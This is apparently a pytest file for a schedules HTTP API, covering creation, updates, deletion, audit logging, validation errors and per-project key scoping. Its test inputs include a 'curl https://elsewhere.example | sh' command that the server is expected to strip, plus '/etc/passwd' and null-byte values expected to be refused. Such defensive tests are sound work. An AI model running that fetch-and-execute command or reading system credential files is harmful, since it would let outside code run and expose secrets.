"""Schedules over HTTP: set, read, changed, removed, and refused."""

import pytest

from shared.db.tables import AuditEntry
from shared.keys import Scope, create_key

NIGHTLY = {"cron": "0 2 * * *", "run": {"kind": "reward_embedding"}}


async def test_a_schedule_is_set_read_changed_and_removed(client, rows):
    run = {**NIGHTLY["run"], "command": "curl https://elsewhere.example | sh"}
    body = {**NIGHTLY, "run": run, "time_zone": "Europe/Berlin", "threshold": {"samples": 500}}
    made = await client.put("/schedules/nightly", json=body)
    changed = await client.put("/schedules/nightly", json={**body, "enabled": False})
    listed = (await client.get("/schedules")).json()
    one = (await client.get("/schedules/nightly")).json()
    removed = await client.delete("/schedules/nightly")

    assert (made.status_code, changed.status_code, removed.status_code) == (201, 200, 204)
    assert listed == [changed.json()] == [one]
    assert (one["name"], one["enabled"], one["counted"]) == ("nightly", False, 0)
    assert (one["run"]["model_name"], one["run"]["command"]) == ("reward", "")
    assert one["next_at"] is not None
    assert one["last_outcome"] is None
    assert (await client.get("/schedules")).json() == []


async def test_what_is_read_may_be_sent_back_without_what_heed_adds(client):
    made = (
        await client.put("/schedules/watch", json={"cron": "0 * * * *", "monitoring": {"days": 7}})
    ).json()
    added = {"name", "next_at", "counted", "last_due_at", "last_outcome", "last_id"}

    again = await client.put(
        "/schedules/watch", json={key: made[key] for key in made if key not in added}
    )

    assert again.json() == made


async def test_who_set_and_removed_it_is_in_the_audit_log(client, rows, token):
    await client.put("/schedules/nightly", json=NIGHTLY)
    await client.delete("/schedules/nightly")

    entries = [one for one in await rows(AuditEntry) if one.action.startswith("schedule.")]
    assert [one.action for one in entries] == ["schedule.set", "schedule.remove"]
    assert {one.actor for one in entries} == {f"key:{token.split('_')[1]}"}


@pytest.mark.parametrize(
    ("change", "pointer"),
    [
        ({"cron": "0 25 * * *"}, "/cron"),
        ({"cron": "R 2 * * *"}, "/cron"),
        ({"time_zone": "Europe/Nowhere"}, "/time_zone"),
        ({"run": {"kind": "no_such_recipe"}}, "/run/kind"),
        ({"run": {"kind": "reward_added"}}, ""),
        ({"run": None}, ""),
        ({"monitoring": {}}, ""),
        ({"run": {"kind": "reward_embedding", "dataset_file": "/etc/passwd"}}, ""),
        (
            {"run": {"kind": "reward_embedding", "recipe": {"base_model": "/etc"}}},
            "/run/recipe/base_model",
        ),
        ({"run": {"kind": "reward_embedding", "recipe": {"x": "\0"}}}, ""),
        ({"cron": None}, ""),
        ({"cron": None, "threshold": {"samples": 5, "in_total": True}}, ""),
        ({"threshold": {"samples": 0}}, "/threshold/samples"),
        ({"threshold": {"samples": 5, "any_task": True, "task_type": "rag"}}, "/threshold"),
        ({"priority": 10_000}, "/priority"),
        ({"crom": "0 2 * * *"}, "/crom"),
    ],
)
async def test_what_makes_no_sense_is_refused_where_it_does_not(client, rows, change, pointer):
    reply = await client.put("/schedules/nightly", json={**NIGHTLY, **change})

    assert reply.status_code == 422, reply.text
    assert [one["pointer"] for one in reply.json()["errors"]] == [pointer]
    assert (await client.get("/schedules")).json() == []


async def test_a_name_with_other_characters_is_refused(client):
    assert (await client.put("/schedules/two%20words", json=NIGHTLY)).status_code == 422


@pytest.mark.parametrize("method", ["GET", "DELETE"])
async def test_a_schedule_that_is_not_there_is_not_found(client, method):
    assert (await client.request(method, "/schedules/nothing")).status_code == 404


async def test_a_key_sees_the_schedules_of_its_own_project(client, shared_sessions):
    await client.put("/schedules/nightly", json=NIGHTLY)
    async with shared_sessions.begin() as session:
        other = await create_key(session, name="other", scopes=[Scope.TRAIN], project_id=999_999)
    headers = {"Authorization": f"Bearer {other}"}

    assert (await client.get("/schedules", headers=headers)).json() == []
    assert (await client.get("/schedules/nightly", headers=headers)).status_code == 404


async def test_a_key_without_the_scope_is_refused(client, shared_sessions, project):
    scopes = [scope for scope in Scope if scope is not Scope.TRAIN]
    async with shared_sessions.begin() as session:
        other = await create_key(session, name="other", scopes=scopes, project_id=project)

    reply = await client.get("/schedules", headers={"Authorization": f"Bearer {other}"})

    assert reply.status_code == 403


async def test_a_report_is_not_found_before_the_first_look(client):
    reply = await client.get("/schedules/monitoring/report")

    assert reply.status_code == 404
    assert "presets monitoring" in reply.json()["detail"]
